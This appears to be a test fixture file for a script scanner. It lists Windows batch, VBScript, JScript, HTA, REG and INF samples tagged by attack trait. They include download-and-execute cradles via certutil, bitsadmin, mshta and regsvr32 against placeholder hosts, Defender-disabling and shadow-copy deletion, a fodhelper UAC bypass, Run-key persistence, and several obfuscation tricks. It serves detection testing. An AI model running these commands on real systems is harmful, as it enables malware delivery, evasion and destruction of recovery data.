// Harmless scripts of Windows that show the traits of attacks.
import { encodeScript } from '../../script/encode-script.ts'
import { b64, cradle, type Suspect, text, wide } from './suspect.ts'

export const windows: readonly Suspect[] = [
  text(
    'encoded.bat',
    'malicious',
    ['script_conceals_itself', 'script_runs_downloaded_text'],
    `@echo off\r\nstart /min powershell -w hidden -enc ${wide(cradle)}\r\n`,
  ),
  text(
    'certutil.bat',
    'suspicious',
    ['script_uses_system_tool_to_fetch'],
    'certutil -urlcache -split -f http://203.0.113.7/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe',
  ),
  text(
    'carets.cmd',
    'suspicious',
    ['script_uses_system_tool_to_fetch', 'script_conceals_itself'],
    'c^e^r^t^u^t^i^l -u^r^l^c^a^c^h^e -s^p^l^i^t -f h^t^t^p^:^/^/203.0.113.7/a.exe a.exe & a.exe',
  ),
  text(
    'substring.bat',
    'suspicious',
    ['script_uses_system_tool_to_fetch'],
    'set q=abcdefghijklmnopqrstuvwxyz:/.\r\n%q:~12,1%%q:~18,1%%q:~7,1%%q:~19,1%%q:~0,1% %q:~7,1%%q:~19,1%%q:~19,1%%q:~15,1%%q:~26,1%%q:~27,1%%q:~27,1%files.test/a.hta',
  ),
  text(
    'installer-of-bare-share.vbs',
    'malicious',
    ['script_uses_system_tool_to_fetch'],
    'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "msiexec /i \\\\203.0.113.7\\share\\agent.msi /qn", 0, True\r\n',
  ),
  text('mshta.bat', 'suspicious', ['script_uses_system_tool_to_fetch'], 'mshta http://files.test/a.hta'),
  text(
    'regsvr.cmd',
    'suspicious',
    ['script_uses_system_tool_to_fetch'],
    'regsvr32 /s /n /u /i:http://files.test/a.sct scrobj.dll',
  ),
  text(
    'bits.bat',
    'suspicious',
    ['script_uses_system_tool_to_fetch'],
    'bitsadmin /transfer j /download /priority high http://203.0.113.7/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe',
  ),
  text(
    'ransom.bat',
    'malicious',
    ['script_destroys_recovery', 'script_disables_defences'],
    'vssadmin delete shadows /all /quiet\r\nbcdedit /set {default} recoveryenabled No\r\nwbadmin delete catalog -quiet\r\nnet stop WinDefend\r\nsc delete WinDefend\r\n',
  ),
  text(
    'self.bat',
    'suspicious',
    ['script_drops_decoded_file'],
    `@echo off\r\nfindstr /b "::x" "%~f0" > %TEMP%\\p.txt\r\ncertutil -decode %TEMP%\\p.txt %TEMP%\\p.exe\r\nstart /b %TEMP%\\p.exe\r\npowershell -w hidden Start-Process %TEMP%\\p.exe\r\n-----BEGIN CERTIFICATE-----\r\n${b64('just text, no program at all, repeated a little: no program at all')}\r\n-----END CERTIFICATE-----\r\n`,
  ),
  text(
    'uac.bat',
    'suspicious',
    ['script_disables_defences'],
    'reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /ve /d "cmd /c calc" /f\r\nfodhelper.exe',
  ),
  text(
    'run.vbs',
    'suspicious',
    ['script_downloads_and_runs'],
    'Set h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "http://203.0.113.7/a.exe", False\r\nh.Send\r\nSet s = CreateObject("ADODB.Stream")\r\ns.Type = 1\r\ns.Open\r\ns.Write h.responseBody\r\ns.SaveToFile "C:\\Users\\Public\\a.exe", 2\r\nCreateObject("WScript.Shell").Run "C:\\Users\\Public\\a.exe", 0, False\r\n',
  ),
  text(
    'chr.vbs',
    'suspicious',
    ['script_conceals_itself'],
    `x = ${[...'powershell -w hidden -c calc'].map((char) => `Chr(${char.charCodeAt(0)})`).join(' & ')}\r\nCreateObject(${[...'WScript.Shell'].map((char) => `Chr(${char.charCodeAt(0)})`).join('&')}).Run x, 0\r\n`,
  ),
  text(
    'execute.vbs',
    'suspicious',
    ['script_runs_decoded_code'],
    `Execute(StrReverse("${[...'CreateObject(""WScript.Shell"").Run ""calc""'].reverse().join('')}"))\r\n`,
  ),
  text(
    'base64.vbs',
    'suspicious',
    ['script_drops_decoded_file'],
    'Set d = CreateObject("Microsoft.XMLDOM").createElement("x")\r\nd.DataType = "bin.base64"\r\nd.Text = "aGVsbG8="\r\nSet s = CreateObject("ADODB.Stream")\r\ns.Type=1\r\ns.Open\r\ns.Write d.NodeTypedValue\r\ns.SaveToFile "C:\\Users\\Public\\a.exe"\r\nCreateObject("WScript.Shell").Run "C:\\Users\\Public\\a.exe"\r\n',
  ),
  text(
    'wmi.vbs',
    'suspicious',
    ['script_starts_process_indirectly'],
    'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")\r\nw.Create "powershell -w hidden -enc ' +
      wide(cradle) +
      '", Null, Null, p\r\n',
  ),
  text(
    'moniker.vbs',
    'suspicious',
    ['script_starts_process_indirectly'],
    'Set m = CreateObject("MMC20.Application")\r\nm.Document.ActiveView.ExecuteShellCommand "cmd", Null, "/c powershell -w hidden iwr http://203.0.113.7/a.ps1 | iex", "7"\r\n',
  ),
  text(
    'encoded.vbe',
    'suspicious',
    ['script_is_encoded'],
    encodeScript(
      'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c certutil -urlcache -f http://203.0.113.7/a.exe a.exe", 0\r\n',
    ),
  ),
  text(
    'encoded.jse',
    'malicious',
    ['script_is_encoded', 'script_downloads_and_runs'],
    encodeScript(
      'var h=new ActiveXObject("MSXML2.XMLHTTP");h.open("GET","http://203.0.113.7/a.exe",false);h.send();var s=new ActiveXObject("ADODB.Stream");s.Type=1;s.Open();s.Write(h.responseBody);s.SaveToFile("C:\\\\Users\\\\Public\\\\a.exe",2);new ActiveXObject("WScript.Shell").Run("C:\\\\Users\\\\Public\\\\a.exe",0);',
    ),
  ),
  text(
    'dropper.js',
    'malicious',
    ['script_downloads_and_runs', 'script_conceals_itself'],
    'var sh=new ActiveXObject("WSc"+"ript.Sh"+"ell");var h=new ActiveXObject("MSX"+"ML2.XMLHTTP");h["o"+"pen"]("GET","http://203.0.113.7/a.exe",0);h["se"+"nd"]();var st=new ActiveXObject("ADODB.Stream");st.Open();st.Type=1;st.Write(h.responseBody);st.SaveToFile(sh.ExpandEnvironmentStrings("%TEMP%")+"\\\\a.exe");sh["R"+"un"]("cmd /c %TEMP%\\\\a.exe",0,false);var z="a"+"b"+"c"+"d"+"e"+"f";',
  ),
  text(
    'charcode.js',
    'suspicious',
    ['script_runs_decoded_code'],
    `eval(String.fromCharCode(${[...'new ActiveXObject("WScript.Shell").Run("calc",0)'].map((char) => char.charCodeAt(0)).join(',')}))`,
  ),
  text(
    'blob.wsf',
    'suspicious',
    ['script_downloads_and_runs'],
    '<job id="a"><script language="VBScript"><![CDATA[\r\nSet h = CreateObject("WinHttp.WinHttpRequest.5.1")\r\nh.Open "GET", "http://203.0.113.7/x", False\r\nCreateObject("WScript.Shell").Run "cmd /c calc", 0\r\n]]></script></job>',
  ),
  text(
    'tool.hta',
    'malicious',
    ['html_application_runs_program'],
    `<html><head><HTA:APPLICATION WINDOWSTATE="minimize"></head><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -w hidden -enc ${wide(cradle)}", 0\r\nself.close</script></html>`,
  ),
  text(
    'run.reg',
    'suspicious',
    ['script_persists'],
    'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"u"="powershell -w hidden -c \\"iwr http://203.0.113.7/a.ps1 | iex\\""\r\n',
  ),
  text(
    'setup.inf',
    'suspicious',
    ['script_uses_system_tool_to_fetch'],
    '[version]\r\nSignature=$CHICAGO$\r\n[DefaultInstall_SingleUser]\r\nRunPreSetupCommands=x\r\n[x]\r\nregsvr32 /s /i:http://203.0.113.7/a.sct scrobj.dll\r\n',
  ),
]
